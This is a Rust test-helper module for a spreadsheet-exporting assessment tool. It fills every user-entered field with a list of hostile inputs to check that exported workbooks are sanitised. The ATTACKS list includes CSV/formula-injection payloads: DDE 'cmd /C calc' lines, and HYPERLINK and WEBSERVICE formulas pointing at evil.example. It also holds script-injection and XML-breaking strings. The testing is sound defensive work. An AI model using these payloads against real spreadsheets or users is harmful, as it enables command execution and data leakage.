//! What the tests are made from: the bundled catalogue, practices and examples.

#![allow(dead_code, missing_docs, clippy::unwrap_used, clippy::panic, reason = "shared by several tests")]

use glapp_core::{Assessment, Catalogue, Coverage, GapAnalysis, Language, Practices};
use glapp_format::{assessment, bundled};
use glapp_report::ResultSources;

/// The bundled catalogue.
pub fn catalogue() -> Catalogue {
    bundled::catalogue(bundled::DEFAULT_CATALOGUE).unwrap().unwrap()
}

/// The bundled practices.
pub fn practices(catalogue: &Catalogue) -> Practices {
    bundled::practices(bundled::DEFAULT_PRACTICES, catalogue).unwrap().unwrap()
}

/// A bundled example.
pub fn example(name: &str, catalogue: &Catalogue) -> Assessment {
    let path = format!("{}/../../assessments/examples/exempel{name}.glapp.json", env!("CARGO_MANIFEST_DIR"));
    assessment::read(&std::fs::read(path).unwrap(), &[catalogue]).unwrap().value
}

/// Calls back with what a result is told from.
pub fn told<T>(
    assessment: &Assessment,
    catalogue: &Catalogue,
    tell: impl FnOnce(ResultSources<'_>) -> T,
) -> T {
    let practices = practices(catalogue);
    let coverage = Coverage::on(assessment.header().date, catalogue, &practices.practices);
    let analysis = GapAnalysis::of(assessment, catalogue, &coverage);
    tell(ResultSources {
        catalogue,
        practices: &practices.practices,
        coverage: &coverage,
        assessment,
        analysis: &analysis,
        previous: None,
        others: &[],
    })
}

/// The workbook of an example.
pub fn workbook(assessment: &Assessment, catalogue: &Catalogue, language: Language) -> Vec<u8> {
    told(assessment, catalogue, |sources| glapp_office::xlsx::workbook(sources, language))
}

/// What somebody might write who means harm, or nothing at all.
pub const ATTACKS: [&str; 14] = [
    "=HYPERLINK(\"https://evil.example\",\"tryck\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=WEBSERVICE(\"https://evil.example\")",
    "\r=DDE(\"cmd\";\"/C calc\")",
    "<script>alert(1)</script>",
    "]]></t></is></c><c><f>1+1</f></c>",
    "&lt;b&gt; &amp; \"'",
    "javascript:alert(1)",
    "\u{202e}tfel\u{202c} \u{2066}💡🚀",
    "_x003D_1+1 _x000D_",
    "a\u{0}\u{1}\u{1b}[31mb\u{fffe}\u{ffff}",
    "'=1+1",
];

/// A text without what XML forbids, its line ends as XML reads them.
pub fn without_forbidden(text: &str) -> String {
    let allowed = |letter: &char| {
        matches!(letter, '\t' | '\n') || *letter >= ' ' && !matches!(letter, '\u{fffe}' | '\u{ffff}')
    };
    text.replace('\r', "\n").chars().filter(allowed).collect()
}

/// An assessment with an attack in every field that people fill in: notes in clause order as in [`ATTACKS`].
pub fn attacked(catalogue: &Catalogue) -> Assessment {
    use glapp_core::{Action, ActionStatus, Answer, Change, Edit, Evidence, Level, Rating, Unit};
    let mut unit = example("forvaltningen", catalogue);
    let mut apply = |edit| drop(unit.apply(catalogue, edit).unwrap());
    for ((leaf, attack), place) in catalogue.leaves().zip(ATTACKS).zip(0_u8..) {
        let answer = if place % 3 == 0 {
            Answer::NotApplicable(format!("x{attack}").into())
        } else {
            Answer::Level(Level::new(place % 6))
        };
        let evidence = vec![Evidence { text: attack.into(), url: attack.into(), ..Evidence::default() }];
        let practices = vec![format!("x{attack}").into()];
        let rating = Rating { answer, evidence, practices, note: attack.into(), ..Rating::default() };
        apply(Edit::Clause(leaf.id(), Change::Rating(Box::new(rating))));
    }
    let first = catalogue.leaves().next().map(|leaf| leaf.id());
    let action = |(attack, place): (&str, usize)| Action {
        id: place.to_string().into(),
        clause: first,
        text: attack.into(),
        owner: attack.into(),
        due: None,
        status: ActionStatus::Open,
        carried: Default::default(),
    };
    apply(Edit::Actions(ATTACKS.into_iter().zip(0..).map(action).collect()));
    let header = unit.header().unit.clone();
    let name = ATTACKS.join(" ");
    drop(
        unit.apply(
            catalogue,
            Edit::Unit(Unit { name: name.into(), organisation: ATTACKS[0].into(), ..header }),
        ),
    );
    unit
}

/// The text of a part of a package, unpacked by a library of others.
pub fn part(bytes: &[u8], name: &str) -> String {
    use std::io::Read as _;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap_or_else(|error| panic!("{name}: {error}"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// The names of the parts of a package.
pub fn parts(bytes: &[u8]) -> Vec<String> {
    zip::ZipArchive::new(std::io::Cursor::new(bytes))
        .unwrap()
        .file_names()
        .map(|name| name.unwrap().into_owned())
        .collect()
}

/// The package with one part changed, packed by a library of others.
pub fn with_part(bytes: &[u8], name: &str, change: impl Fn(&str) -> String) -> Vec<u8> {
    use std::io::Write as _;
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for part_name in parts(bytes) {
        let text = part(bytes, &part_name);
        let text = if part_name == name { change(&text) } else { text };
        out.start_file(&*part_name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(text.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}
